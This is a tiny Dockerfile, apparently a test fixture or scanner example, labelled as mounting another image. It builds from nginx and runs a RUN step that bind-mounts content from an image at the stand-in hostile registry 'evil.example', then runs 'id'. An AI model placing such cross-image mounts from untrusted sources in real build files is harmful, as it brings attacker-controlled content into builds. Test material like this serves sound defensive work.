# dockerfile-from: another image, mounted
FROM nginx
RUN --mount=type=bind,from=evil.example/x,target=/x id
